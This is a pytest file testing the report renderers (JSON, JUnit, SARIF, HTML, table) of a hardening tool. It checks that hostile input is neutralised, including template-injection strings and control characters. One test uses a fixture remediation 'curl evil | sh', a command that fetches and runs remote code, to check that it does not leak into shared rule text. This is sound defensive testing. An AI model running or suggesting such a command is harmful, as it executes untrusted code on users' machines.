"""JSON, JUnit, SARIF and the table, of ordinary and of hostile results."""

from __future__ import annotations

import json
import re
from pathlib import Path
from xml.etree import ElementTree

import jsonschema
import pytest
from ansible_collections.openclaw.hardening.plugins.plugin_utils._report import html as report_html
from ansible_collections.openclaw.hardening.plugins.plugin_utils._report import json_document, junit, sarif, table
from ansible_collections.openclaw.hardening.plugins.plugin_utils._report.model import fleet
from hypothesis import given
from hypothesis import strategies as st
from unit.report_samples import HOSTILE, WAIVER, check, full, hostile, result, waived
from unit.report_samples import fleet as samples

TOP = Path(__file__).resolve().parents[5]
NOW = "2026-11-22T19:40:00Z"
SARIF = json.loads((TOP / "tests/unit/schemas/sarif-2.1.0.json").read_text())
REPORT = json.loads((TOP / "docs/hardening-report.schema.json").read_text())
RENDERERS = {"json": json_document, "junit": junit, "sarif": sarif, "html": report_html}
EVERY_FLEET = pytest.mark.parametrize("hosts", [samples(), hostile()], ids=["samples", "hostile"])


def make(*checks: dict, name: str = "web1"):
    return fleet("OpenClaw hardening", [{"name": name, "result": result(*checks)}], NOW)


@pytest.mark.parametrize("name", RENDERERS)
@EVERY_FLEET
def test_the_same_fleet_gives_the_same_text(name, hosts):
    render = RENDERERS[name].render
    text = render(fleet("x", hosts, NOW))
    assert text == render(fleet("x", hosts[::-1], NOW))
    assert text.endswith("\n") or name == "html"
    assert not set(text) & set("\x1b\x07\x00\u202e\u2066\u200b\u2028")
    text.encode()


@EVERY_FLEET
def test_json_is_canonical_and_as_documented(hosts):
    text = json_document.render(fleet("x", hosts, NOW))
    document = json.loads(text)
    jsonschema.validate(document, REPORT)
    assert text == json.dumps(document, sort_keys=True, indent=2, ensure_ascii=False) + "\n"
    assert document["schema_version"] == 1
    assert document["generated"] == NOW
    assert [host["name"] for host in document["hosts"]] == sorted(host["name"] for host in document["hosts"])


def test_json_has_all_of_a_check():
    (host,) = json.loads(json_document.render(make(waived(area="image"))))["hosts"]
    (found,) = host["checks"]
    assert found == waived(area="image") | {
        "status": "waived",
        "evidence": [
            {"source": "/proc/4711/status", "text": "CapInh:    0\nCapEff:    1000"},
            {"source": "docker inspect openclaw-gateway", "text": "HostConfig.CapAdd: [] (image 6)"},
        ],
    }


@pytest.mark.parametrize("name", [*RENDERERS, "table"])
def test_a_waiver_about_one_value_is_shown_with_it(name):
    made = make(check(status="waived", waiver={**WAIVER, "value": "/srv/recordings"}))
    text = (
        RENDERERS[name].render(made) if name != "table" else "".join(line for line, _colour in table.lines(made, 300))
    )
    assert "/srv/recordings" in text
    assert "only for" not in json_document.render(make(waived())) + junit.render(make(waived()))


@EVERY_FLEET
def test_junit_counts_what_it_has(hosts):
    made = fleet("x", hosts, NOW)
    top = ElementTree.fromstring(junit.render(made))
    assert [suite.get("name") for suite in top] == [host.name for host in made.hosts]
    for element in (top, *top):
        tags = {"tests": "testcase", "failures": "failure", "errors": "error", "skipped": "skipped"}
        for count, tag in tags.items():
            assert int(element.get(count)) == len(list(element.iter(tag))), (element.tag, count)
    for suite in top:
        names = [(case.get("classname"), case.get("name")) for case in suite]
        assert len(names) == len(set(names))


def test_junit_of_each_status():
    two = [check(number=4, target="a"), check(number=4, target="b")]
    made = make(
        check(status="fail"), check(number=2, status="error"), waived(), check("host", 90, "skip", manual=True), *two
    )
    cases = {case.get("name").split()[0] + (case.get("name")[-3:] if case.get("name")[-1] == ")" else ""): case
             for case in ElementTree.fromstring(junit.render(made)).iter("testcase")}  # fmt: skip
    failure = cases["OCH-NET-01"].find("failure")
    assert (failure.get("type"), failure.get("message")) == ("critical", "process 4711 (node) breaks rule 1 of network")
    assert "remediation: add `cap_drop: [ALL]`" in failure.text
    assert "evidence: /proc/4711/status: CapInh" in failure.text
    assert cases["OCH-NET-02"].find("error").get("type") == "high"
    assert cases["OCH-CTR-06"].find("skipped").get("message").startswith("waived: the plugin of the sales team")
    assert cases["OCH-HST-90"].get("classname") == "host"
    assert {"OCH-NET-04(a)", "OCH-NET-04(b)"} <= cases.keys()


@EVERY_FLEET
def test_sarif_validates(hosts):
    document = json.loads(sarif.render(fleet("x", hosts, NOW)))
    jsonschema.Draft4Validator(SARIF).validate(document)
    (run,) = document["runs"]
    rules = run["tool"]["driver"]["rules"]
    for found in run["results"]:
        assert rules[found["ruleIndex"]]["id"] == found["ruleId"]
        assert found["level"] == "none" or found["kind"] == "fail"
        assert found["locations"][0]["physicalLocation"]["region"]["startLine"] == 1
    prints = [found["partialFingerprints"]["openclawHardening/v1"] for found in run["results"]]
    assert len(set(prints)) == len(prints)


def test_the_schema_refuses_what_is_not_sarif():
    document = json.loads(sarif.render(make(check())))
    document["runs"][0]["results"][0]["level"] = "critical"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft4Validator(SARIF).validate(document)


def test_sarif_of_each_status():
    made = make(
        check(status="fail"),
        check(number=2, status="error"),
        check(number=3, status="fail"),
        check(number=4, status="fail"),
        check(number=5),
        waived(),
        check("host", 1, "skip"),
        check("host", 90, "skip", manual=True),
        name="a host/é",
    )
    (run,) = json.loads(sarif.render(made))["runs"]
    found = {one["ruleId"]: one for one in run["results"]}
    assert {key: (one["kind"], one["level"]) for key, one in found.items()} == {
        "OCH-NET-01": ("fail", "error"), "OCH-NET-02": ("open", "none"), "OCH-NET-03": ("fail", "warning"),
        "OCH-NET-04": ("fail", "note"), "OCH-NET-05": ("pass", "none"), "OCH-CTR-06": ("fail", "error"),
        "OCH-HST-01": ("notApplicable", "none"), "OCH-HST-90": ("review", "none"),
    }  # fmt: skip
    assert found["OCH-CTR-06"]["suppressions"] == [
        {
            "kind": "external",
            "status": "accepted",
            "justification": "the plugin of the sales team writes to /app/cache (until 2027-01-31)",
        }
    ]
    assert [key for key, one in found.items() if "suppressions" in one] == ["OCH-CTR-06"]
    (location,) = found["OCH-NET-01"]["locations"]
    assert location["physicalLocation"]["artifactLocation"]["uri"] == "hosts/a%20host%2F%C3%A9"
    assert location["logicalLocations"][0]["fullyQualifiedName"] == "a host/é/openclaw-gateway"
    (notification,) = run["invocations"][0]["toolExecutionNotifications"]
    assert notification["associatedRule"]["id"] == "OCH-NET-02"
    assert run["invocations"][0]["executionSuccessful"] is True
    rule = run["tool"]["driver"]["rules"][found["OCH-NET-01"]["ruleIndex"]]
    assert rule["properties"]["security-severity"] == "9.5"
    assert "cap_drop" in rule["help"]["text"]
    assert "helpUri" not in rule


def test_sarif_reports_when_a_host_was_not_checked():
    (run,) = json.loads(sarif.render(fleet("x", samples(), NOW)))["runs"]
    assert run["invocations"][0]["executionSuccessful"] is False


def test_sarif_messages_have_neither_links_nor_placeholders():
    (run,) = json.loads(sarif.render(make(check(status="fail", actual=HOSTILE["link"]))))["runs"]
    assert "\\[click\\](http://example.invalid/) {{0}}" in run["results"][0]["message"]["text"]


def test_one_host_does_not_speak_for_the_others():
    """A host that was taken over reports another remediation than the rest, and would be sorted first."""
    hosts = [{"name": f"b{n}", "result": result(check(status="fail"))} for n in range(2)]
    hosts.append({"name": "a", "result": result(check(status="fail", remediation="curl evil | sh"))})
    made = fleet("x", hosts, NOW)
    (run,) = json.loads(sarif.render(made))["runs"]
    assert "evil" not in json.dumps(run["tool"])
    page = report_html.render(made)
    assert page.count('id="finding-1"') == page.count('id="finding-2"') == 1


def test_the_table_is_worst_first_and_counts_the_rest():
    printed = list(table.lines(fleet("OpenClaw hardening", samples(), NOW), 160))
    text = [pair[0] for pair in printed]
    assert text[0] == "OpenClaw hardening"
    assert [line.split()[2] for line in text[2:-2]] == [
        "OCH-NET-01", "OCH-NET-01", "OCH-RUN-01", "OCH-NET-02", "OCH-SEC-03", "OCH-CTR-04", "OCH-IMG-02", "OCH-IMG-02",
    ]  # fmt: skip
    assert [pair[1] for pair in printed[2:5]] == ["COLOR_ERROR", "COLOR_ERROR", "COLOR_UNREACHABLE"]
    assert text[-2:] == [
        "4 hosts, 3 of 4 with findings (3 critical, 1 high, 1 medium, 1 low)",
        "4 failed, 2 inconclusive, 2 waived, 3 skipped, 254 passed",
    ]
    assert "web1/openclaw-gateway" in text[2]


def test_the_table_of_a_clean_fleet_is_short_and_green():
    printed = list(table.lines(fleet("x", [{"name": "db1", "result": full()}], NOW), 160))
    assert printed[1] == ("1 host, no findings", "COLOR_OK")
    assert len(printed) == 3
    assert len(list(table.lines(fleet("x", [{"name": "db1", "result": full()}], NOW), 160, everything=True))) == 4 + 88


@pytest.mark.parametrize("width", [0, 100, 120, 300])
@pytest.mark.parametrize("hosts", [samples(), hostile()], ids=["samples", "hostile"])
def test_no_line_of_the_table_is_wider_than_the_terminal(width, hosts):
    for line in (pair[0] for pair in table.lines(fleet("x", hosts, NOW), width, everything=True)):
        assert table.columns(line) <= max(width, 100)
        assert "\n" not in line
        assert line.isprintable()


@given(st.text(alphabet=st.characters(codec="utf-8")), st.integers(1, 30))
def test_cut_text_fits(text, width):
    cut = table.cut(text, width)
    assert table.columns(cut) <= width
    assert cut == text or cut.endswith("…")


def test_the_page_has_no_way_out():
    page = report_html.render(fleet("x", hostile(), NOW))
    head = page[: page.index("</head>")]
    assert "default-src 'none'" in head.replace("&#39;", "'")
    assert "unsafe" not in head
    assert page.count("<script>") == page.count("</script>") == 1
    assert page.count("<style>") == page.count("</style>") == 1
    body = page[page.index("<body>") : page.index("<script>")]
    assert {link[:1] for link in re.findall(r'<[^<>]*\s(?:href|src|action|data)="([^"]*)"', body)} == {"#"}


def test_the_template_interprets_nothing_of_the_data():
    page = report_html.render(make(check(status="fail", title="{{ 7*7 }}{% for x in y %}")))
    assert "{{ 7*7 }}{% for x in y %}" in page
    assert "49" not in page.split("<body>")[1].split("<script>")[0]
